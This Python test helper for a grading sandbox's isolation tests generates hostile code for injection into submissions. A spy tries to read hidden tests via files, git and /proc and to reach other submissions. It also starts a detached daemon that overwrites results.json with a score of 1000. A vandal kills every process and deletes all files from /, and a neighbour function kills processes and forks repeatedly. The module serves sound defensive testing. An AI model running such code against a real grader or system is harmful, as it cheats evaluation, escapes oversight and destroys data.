"""Hostile code for the isolation tests: a spy that tries every way to the hidden tests and the grader, and a vandal.

Each is appended to a module of a submission and runs when it is imported; it
prints what it found, which reaches the public tests' output.
"""
import hashlib
import subprocess
from pathlib import Path

from tests.grader.helpers import REPO


def repository_digest(repo: Path = REPO) -> str:
    """Returns a hash of every tracked file of the repository, as it is on disk (content and mode)."""
    names = subprocess.run(["git", "ls-files", "-z"], cwd=repo, capture_output=True, check=True).stdout.split(b"\0")
    digest = hashlib.sha256()
    for name in filter(None, names):
        path = repo / name.decode()
        digest.update(name + b"\0")
        if path.is_file():
            digest.update(oct(path.stat().st_mode).encode() + path.read_bytes())
    return digest.hexdigest()


def processes_named(name: str) -> list[int]:
    """Returns the pids of the processes whose command name is ``name``."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and (entry / "comm").read_text().strip() == name:
                found.append(int(entry.name))
        except OSError:
            continue
    return found


DAEMON_NAME = "evil_daemon"


def printed(results: dict) -> str:
    """Returns everything the tests' outputs in ``results`` (a results.json document) carry, what was printed among it."""
    return "\n".join(t["output"] for t in results["tests"])


def spy(results_json: Path, port: int, other: Path, repo: Path = REPO) -> str:
    """Returns code that tries every way to the hidden tests of ``repo`` and to the grader, and prints what it got.

    It also starts a daemon that leaves its session and tries to rewrite ``results_json`` until it is killed.
    """
    return f'''\
import glob as _glob
import os as _os
import socket as _socket
import subprocess as _subprocess


def _attempt(what, action):
    try:
        got = action()
    except BaseException as exc:
        print(f"ATTEMPT {{what}}: refused ({{type(exc).__name__}})")
    else:
        print(f"ATTEMPT {{what}}: LEAK {{str(got)[:60]!r}}")


def _read(path):
    with open(path) as f:
        return f.read()


def _proc_roots():
    found = []
    for pid in _os.listdir("/proc"):
        if pid.isdigit():
            for way in ("root", "cwd"):
                for rel in ({str(repo)!r} + "/tests/hidden/test_activations.py", "tests/hidden/test_activations.py"):
                    try:
                        found.append(_read(f"/proc/{{pid}}/{{way}}/" + rel.lstrip("/")))
                    except OSError:
                        pass
    if not found:
        raise FileNotFoundError("no process shows the hidden tests")
    return found[0]


def _other_submissions():
    marker = "OTHER-" + "SUBMISSION-SECRET"
    found = [p for p in _glob.glob("/tmp/grader-sandbox-*/**/*.py", recursive=True) if marker in _read(p)]
    found += [p for p in _glob.glob({str(other)!r} + "/**/*.py", recursive=True) if marker in _read(p)]
    if not found:
        raise FileNotFoundError("no other submission")
    return found


def _connect():
    with _socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
        return "connected"


_attempt("hidden tests", lambda: _read({str(repo / "tests" / "hidden" / "test_activations.py")!r}))
_attempt("git show", lambda: _subprocess.run(["git", "show", "HEAD:tests/hidden/test_activations.py"],
                                             cwd={str(repo)!r}, capture_output=True, text=True, check=True).stdout)
_attempt("git objects", lambda: _os.listdir({str(repo / ".git" / "objects")!r}))
_attempt("proc of the grader", _proc_roots)
_attempt("other submission", _other_submissions)
_attempt("localhost", _connect)
_attempt("results", lambda: open({str(results_json)!r}, "a").write(""))


def _daemon():
    import ctypes
    import time
    ctypes.CDLL(None).prctl(15, b"{DAEMON_NAME}", 0, 0, 0)
    print("DAEMON started", flush=True)
    while True:
        try:
            with open({str(results_json)!r}, "w") as f:
                f.write('{{"score": 1000, "tests": []}}')
        except OSError:
            pass
        time.sleep(0.05)


if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _daemon()
    _os._exit(0)
'''


VANDAL = '''\
import os as _os
import shutil as _shutil
import signal as _signal

for _sig in (_signal.SIGTERM, _signal.SIGKILL):
    for _pid in [_os.getppid(), 1] + [int(p) for p in _os.listdir("/proc") if p.isdigit()]:
        if _pid != _os.getpid():
            try:
                _os.kill(_pid, _sig)
            except OSError:
                pass
for _top in ("/", ):
    for _dirpath, _dirs, _files in _os.walk(_top, topdown=False):
        if _dirpath.startswith(("/proc", "/sys", "/dev")):
            continue
        for _name in _files:
            try:
                _os.remove(_os.path.join(_dirpath, _name))
            except OSError:
                pass
print("VANDAL done", flush=True)
'''


def refusals(results: dict) -> set[str]:
    """Returns the spy's report lines found in the outputs of ``results`` (a results.json document)."""
    return {line for line in printed(results).splitlines() if line.startswith("ATTEMPT ")}


SPY_ATTEMPTS = 7


def neighbour(hidden: Path, seconds: float, function: str = "sigmoid_forward", other: Path | None = None) -> str:
    """Returns code for a grade that runs beside another: its first call of ``function``, for ``seconds``, keeps
    trying to read ``hidden`` (a hidden test file) and ``other`` (a file of another submission), to kill every
    process it can signal and to use up its processes, then prints what it managed and returns the right values."""
    return f'''\
import os as _os
import signal as _signal
import time as _time

_inner = {function}
_done = []


def {function}(*args, **kwargs):
    if not _done:
        _done.append(1)
        read = other = killed = forked = 0
        end = _time.monotonic() + {seconds!r}
        while _time.monotonic() < end:
            try:
                with open({str(hidden)!r}) as f:
                    read += bool(f.read(10))
            except OSError:
                pass
            try:
                with open({str(other or "/nonexistent")!r}) as f:
                    other += bool(f.read(10))
            except OSError:
                pass
            for p in _os.listdir("/proc"):
                if p.isdigit() and int(p) not in (_os.getpid(), _os.getppid(), 1):
                    try:
                        _os.kill(int(p), _signal.SIGKILL)
                        killed += 1
                    except OSError:
                        pass
            try:
                if _os.fork() == 0:
                    _time.sleep(60)
                    _os._exit(0)
                forked += 1
            except OSError:
                pass
            _time.sleep(0.05)
        print(f"NEIGHBOUR read={{read}} other={{other}} forked={{forked}}", flush=True)
    return _inner(*args, **kwargs)
'''
